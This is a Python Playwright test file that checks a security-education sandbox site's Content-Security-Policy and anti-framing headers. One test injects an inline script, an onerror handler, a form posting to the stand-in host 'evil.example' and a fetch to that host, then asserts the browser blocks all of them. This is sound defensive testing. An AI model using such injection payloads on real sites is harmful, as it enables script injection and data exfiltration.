"""In a real browser the policy of the headers forbids nothing that the site does, and forbids what it doesn't."""

from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, Page, expect

from sandbox.content import Content
from tests.support.browser_steps import make_mistake
from tests.support.complaints import complaints_of
from tests.support.page_pool import PagePool

WALKTHROUGHS = ("register-by-phone", "keep-codes-secret", "check-balance-and-top-up")
"""With an SMS, with a call, and with a screen of the cabinet. What else a walkthrough shows is made of their templates.

Of their pages on the site every step is gone through (`test_everything_is_seen`).
"""


@pytest.fixture
def page(page_pool: PagePool) -> Iterator[Page]:
    with page_pool.page(service_workers="allow") as page:
        yield page


@pytest.fixture
def complaints(page: Page) -> Iterator[list[str]]:
    with complaints_of(page) as complaints:
        yield complaints


def test_search_colours_and_pages_of_all_depths_work_under_the_policy(page: Page, complaints: list[str]) -> None:
    page.goto("/registration/by-phone/")
    for tab in ("Вход", "Главная", "Безопасность"):
        page.locator(".md-tabs__link", has_text=tab).click()
        expect(page.locator(".md-tabs__item--active")).to_contain_text(tab)
    page.get_by_title("Включить тёмную тему").click()
    expect(page.locator("body")).to_have_attribute("data-md-color-scheme", "slate")
    field = page.locator(".md-search__input")
    field.click()
    field.fill("пароль")
    page.locator(".md-search-result__link").first.click()
    expect(page.get_by_role("heading", level=1)).to_contain_text("парол")
    assert complaints == []


@pytest.mark.parametrize("slug", WALKTHROUGHS)
def test_no_page_of_the_sandbox_and_no_mistake_does_what_the_policy_forbids(
    page: Page, content: Content, complaints: list[str], slug: str
) -> None:
    """Of the mistakes of a step one is made: all are made of the same templates."""
    page.goto(f"/sandbox/walkthroughs/{slug}")
    make_mistake(page, content.walkthroughs[slug].steps[0].mistakes[0].name)
    assert complaints == []


def test_what_a_hostile_text_could_bring_is_forbidden(page: Page) -> None:
    page.goto("/")
    page.evaluate(
        """() => {
            window.refused = new Set();
            document.addEventListener("securitypolicyviolation", (event) => {
                window.refused.add(event.effectiveDirective);
            });
            const script = document.createElement("script");
            script.textContent = "window.ran = true";
            document.body.append(script);
            document.body.insertAdjacentHTML("beforeend", "<img src=/none.png onerror='window.ran = true'>");
            document.body.insertAdjacentHTML("beforeend", "<p style='color: red'>");
            document.body.insertAdjacentHTML("beforeend", "<form action='https://evil.example/'></form>");
            document.forms[document.forms.length - 1].submit();
            fetch("https://evil.example/").catch(() => null);
        }"""
    )
    directives = ["script-src-elem", "script-src-attr", "style-src-attr", "form-action", "connect-src"]
    page.wait_for_function("(expected) => expected.every((each) => window.refused.has(each))", arg=directives)
    assert page.evaluate("window.ran") is None


def test_no_other_site_can_show_the_sandbox_in_a_frame(browser: Browser, server: str) -> None:
    page = browser.new_page()
    with (
        page.expect_console_message(lambda message: "frame-ancestors 'none'" in message.text),
        page.expect_event("framenavigated", lambda frame: frame.url.startswith("chrome-error:")),
    ):
        page.set_content(f"<iframe src='{server}/sandbox/walkthroughs/register-by-phone'></iframe>")
    assert [frame.url for frame in page.frames] == ["about:blank", "chrome-error://chromewebdata/"]
    page.close()
